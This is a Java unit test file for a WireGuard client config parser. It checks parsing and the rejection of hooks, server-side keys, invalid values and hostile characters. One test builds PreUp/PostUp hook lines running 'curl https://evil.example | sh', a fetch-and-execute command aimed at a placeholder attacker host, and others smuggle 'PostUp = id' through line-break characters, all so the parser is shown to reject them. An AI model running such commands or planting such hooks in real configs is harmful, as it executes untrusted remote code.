package dev.tunnelgate.wgconfig;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class WgConfigParserTest {
    private static final String PEER = """
            [Peer]
            PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
            AllowedIPs = 0.0.0.0/0
            """;
    private static final String INTERFACE = """
            [Interface]
            PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
            Address = 10.8.0.2/32
            """;

    @Test
    void parses_the_rendered_fixture_into_the_model() {
        assertThat(WgConfigParser.parse(ConfigFixtures.TEXT)).isEqualTo(ConfigFixtures.model());
    }

    @Test
    void reads_the_placeholder_back_as_a_placeholder() {
        String text = INTERFACE.replace("yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=", "<paste your private key here>")
                + PEER;

        assertThat(WgConfigParser.parse(text).iface().privateKey()).isEqualTo(PrivateKeyEntry.placeholder());
    }

    @Test
    void accepts_crlf_comments_any_key_case_and_repeated_list_keys_like_wg_does() {
        String text = """
                # exported by hand
                [interface]
                privatekey=yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
                Address = 10.8.0.2/32 # the IPv4
                ADDRESS = fd00::2/128
                [PEER]
                PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
                AllowedIPs = 0.0.0.0/0
                AllowedIPs = ::/0
                """.replace("\n", "\r\n");

        ClientConfig config = WgConfigParser.parse(text);

        assertThat(config.iface().addresses()).hasToString("[10.8.0.2/32, fd00::2/128]");
        assertThat(config.peers().getFirst().allowedIps()).hasToString("[0.0.0.0/0, ::/0]");
        assertThat(config.deviceName()).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"PreUp", "PostUp", "PreDown", "PostDown", "postup", "POSTDOWN"})
    void rejects_every_hook_with_a_clear_error(String hook) {
        String text = INTERFACE + hook + " = curl https://evil.example | sh\n" + PEER;

        assertThatThrownBy(() -> WgConfigParser.parse(text))
                .isInstanceOf(InvalidConfigException.class)
                .hasMessage("Line 4 has " + hook
                        + ", a hook that runs shell commands; Tunnelgate configs never contain hooks");
    }

    @Test
    void rejects_a_hook_in_a_peer_section_too() {
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + PEER + "PostUp = id\n"))
                .hasMessageContaining("hook");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Table = off", "SaveConfig = true", "ListenPort = 51820", "FwMark = 0x1"})
    void rejects_server_side_keys(String line) {
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + line + "\n" + PEER))
                .hasMessageEndingWith("which a Tunnelgate client config does not use");
    }

    @Test
    void rejects_unknown_keys_naming_the_section() {
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "Colour = blue\n" + PEER))
                .hasMessage("Line 4 has unknown key Colour in [Interface]");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + PEER + "Address = 10.0.0.1/32\n"))
                .hasMessage("Line 7 has unknown key Address in [Peer]");
    }

    @Test
    void rejects_duplicate_single_valued_keys() {
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "MTU = 1420\nMTU = 1380\n" + PEER))
                .hasMessage("Line 5 (MTU): MTU appears twice in the same section");
        assertThatThrownBy(() -> WgConfigParser.parse(
                        INTERFACE + PEER + "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n"))
                .hasMessage("Line 7 (PublicKey): PublicKey appears twice in the same section");
    }

    @Test
    void rejects_invalid_values_with_the_line_and_the_rule() {
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "MTU = 100\n" + PEER))
                .hasMessage("MTU must be between 1280 and 9000, got 100");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "MTU = -1\n" + PEER))
                .hasMessage("Line 4 (MTU): MTU must be a whole number");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "Address = 010.0.0.1/32\n" + PEER))
                .hasMessage("Line 4 (Address): Address is not a plain IPv4 or IPv6 address");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + PEER.replace("0.0.0.0/0", "10.0.0.1/8")))
                .hasMessage("[Peer] number 1: AllowedIPs entry 10.0.0.1/8 has host bits set; did you mean 10.0.0.0/8?");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + PEER + "Endpoint = 2001:db8::1:51820\n"))
                .hasMessageContaining("must be in brackets");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + PEER + "Endpoint = vpn.example.com:70000\n"))
                .hasMessageContaining("between 1 and 65535");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + PEER.replace("xTIBA5", "xTIBA-")))
                .hasMessage("Line 5 (PublicKey): Public key uses the URL-safe base64 alphabet ('-' or '_'); "
                        + "WireGuard keys use '+' and '/' at position 6");
    }

    @Test
    void rejects_structural_problems() {
        assertThatThrownBy(() -> WgConfigParser.parse(PEER)).hasMessage("Config has no [Interface] section");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE))
                .hasMessage("A client config needs at least one [Peer]");
        assertThatThrownBy(() -> WgConfigParser.parse("MTU = 1420\n" + INTERFACE + PEER))
                .hasMessage("Line 1 has MTU before any [Interface] or [Peer] section");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + INTERFACE + PEER))
                .hasMessage("Line 4 starts a second [Interface] section");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "[Wat]\n" + PEER))
                .hasMessageContaining("unknown section");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "just words\n" + PEER))
                .hasMessage("Line 4 is not a section header or a 'Key = Value' line");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "Pri vate = x\n" + PEER))
                .hasMessage("Line 4 has a malformed key");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "MTU =\n" + PEER))
                .hasMessage("Line 4 has no value for MTU");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + PEER + PEER))
                .hasMessage("Two [Peer] sections have the same PublicKey");
    }

    @Test
    void rejects_control_characters_and_unicode_line_breaks_inside_a_line() {
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "MTU = 1420\u2028PostUp = id\n" + PEER))
                .hasMessage("Line 4 contains a control character or line break");
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "MTU = 1420\rPostUp = id\n" + PEER))
                .hasMessage("Line 4 contains a control character or line break");
    }

    @Test
    void errors_never_echo_the_offending_value() {
        String secret = "hunter2-" + "A".repeat(500);

        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "DNS = " + secret + "\n" + PEER))
                .satisfies(e ->
                        assertThat(e.getMessage()).doesNotContain("hunter2").hasSizeLessThan(200));
        assertThatThrownBy(() -> WgConfigParser.parse(INTERFACE + "X" + "y".repeat(300) + " = 1\n" + PEER))
                .satisfies(e -> assertThat(e.getMessage()).doesNotContain("yyyy"));
    }

    @Test
    void rejects_a_hostile_device_name_in_the_header() {
        assertThatThrownBy(() -> WgConfigParser.parse("# Tunnelgate: a\u202eb\n" + INTERFACE + PEER))
                .isInstanceOf(InvalidConfigException.class)
                .hasMessageContaining("Device name contains an invisible formatting character");
    }
}
